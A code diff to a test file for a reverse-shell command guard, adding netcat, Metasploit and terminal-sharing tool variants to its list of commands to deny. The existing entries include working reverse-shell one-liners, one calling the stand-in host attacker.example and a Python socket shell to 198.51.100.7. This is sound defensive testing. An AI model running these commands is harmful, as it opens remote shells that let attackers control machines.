@@ -1,8 +1,13 @@
-import { guardTest } from '../../testing/index.ts'
+import { each, guardTest } from '../../testing/index.ts'
 import guard, { docs } from './reverse-shell.ts'
 
 guardTest(guard, docs, {
   denies: [
+    ...each(
+      'ncat|nc|netcat --exec=/bin/sh|--sh-exec=/bin/bash|--sh-exec=/bin/sh-c 10.0.0.5 4444',
+      'pwncat|msfconsole|msfvenom -lp 4444',
+      'gotty|ttyd|upterm|tmate|wetty bash',
+    ),
     'ncat --exec /bin/bash attacker.example 4444',
     'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
     'sudo nc -lvp 4444 -e /bin/bash',
